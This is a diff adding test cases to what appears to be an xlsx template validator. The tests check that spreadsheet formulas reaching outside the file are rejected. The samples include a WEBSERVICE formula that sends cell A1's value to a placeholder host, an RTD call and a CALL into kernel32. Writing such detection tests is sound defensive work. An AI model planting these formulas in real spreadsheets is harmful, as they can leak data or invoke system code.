@@ -215,6 +215,15 @@ describe('a template that is not taken', () => {
     expect(told(templateOf({ ...some, more }))).toMatch(words);
   });
 
+  it.each([
+    '_xlfn.WEBSERVICE("http://example.invalid/"&amp;A1)',
+    'RTD("a",,"b")',
+    'CALL("kernel32","x","y")',
+  ])('holds the formula %s, which reaches out: said', (formula) => {
+    const rows = row(1, [cell('A1', '{{单位名称}}'), formulaCell('B1', formula)]);
+    expect(told(templateOf(one(rows)))).toMatch(/从其他地方取数的公式，不能用作表样/);
+  });
+
   it.each<[string, Uint8Array, RegExp]>([
     ['text', new TextEncoder().encode('{{总分}}'), /不是 xlsx 文件/],
     ['an old xls', Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0, 0), /不是 xlsx 文件/],
